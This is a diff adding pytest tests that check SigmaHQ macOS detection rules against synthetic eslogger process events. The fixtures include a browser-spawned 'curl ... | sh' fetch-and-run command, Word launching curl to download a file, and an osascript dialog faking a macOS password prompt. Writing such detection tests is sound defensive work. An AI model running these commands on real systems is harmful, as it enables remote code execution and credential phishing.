@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 
+from eslogger_kit import exec_line
 from maat.detect.sigma import Engine, load_rules
 from maat.services.detection import load_rule_files
 from maat.telemetry.pipeline import parse_bytes
@@ -243,3 +244,53 @@ def test_a_startup_item_written_on_a_mac_is_caught_from_endpoint_security_file_e
     assert _titles(engine, created, "osquery.log") == ["Startup Item File Created - MacOS"]
     assert _titles(engine, renamed, "osquery.log") == ["Startup Item File Created - MacOS"]
     assert _titles(engine, read + b"\n" + other, "osquery.log") == []
+
+
+def test_a_shell_started_by_a_browser_or_jamf_on_a_mac_is_caught_from_eslogger() -> None:
+    """Apple's eslogger names the image that ran the exec (the parent's): SigmaHQ's macOS
+    rules on ParentImage run on it; osquery's starts, which lack it, do not run them."""
+    engine = _engine(
+        "macos/process_creation/proc_creation_macos_susp_browser_child_process.yml",
+        "macos/process_creation/proc_creation_macos_jamf_susp_child.yml",
+        "macos/process_creation/proc_creation_macos_office_susp_child_processes.yml",
+    )
+    assert engine.problems == []
+    chrome = "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Helper"
+    word = "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word"
+    lines = [
+        exec_line(chrome, "/bin/sh", ["sh", "-c", "curl -s http://198.51.100.7/a | sh"]),
+        exec_line("/usr/local/jamf/bin/jamf", "/bin/bash", ["bash", "-c", "id"]),
+        exec_line(word, "/usr/bin/curl", ["curl", "-o", "/Users/Shared/p", "http://x"]),
+        # Look-alikes: a shell started by a terminal, Chrome starting its own helper, and
+        # Chrome's own installer script (the rule's filter).
+        exec_line(
+            "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal",
+            "/bin/zsh",
+            ["zsh", "-l"],
+        ),
+        exec_line(chrome, chrome, [chrome, "--type=renderer"]),
+        exec_line(
+            chrome,
+            "/bin/sh",
+            [
+                "sh",
+                "/Volumes/Google Chrome/Google Chrome.app/"
+                "Contents/Frameworks/x/Resources/install.sh",
+            ],
+        ),
+    ]
+    assert _titles(engine, b"\n".join(lines), "es.jsonl") == [
+        "Suspicious Browser Child Process - MacOS",
+        "JAMF MDM Potential Suspicious Child Process",
+        "Suspicious Microsoft Office Child Process - MacOS",
+    ]
+
+
+def test_rules_without_parent_image_run_once_on_an_eslogger_start() -> None:
+    """A start from eslogger has both macOS process route keys; a rule not reading the
+    parent runs on one of them only (no duplicate alert)."""
+    engine = _engine("macos/process_creation/proc_creation_macos_gui_input_capture.yml")
+    prompt = ["osascript", "-e", 'display dialog "macOS needs your password" default answer '
+              '"" with hidden answer']  # fmt: skip
+    line = exec_line("/bin/zsh", "/usr/bin/osascript", prompt)
+    assert _titles(engine, line, "es.jsonl") == ["GUI Input Capture - macOS"]
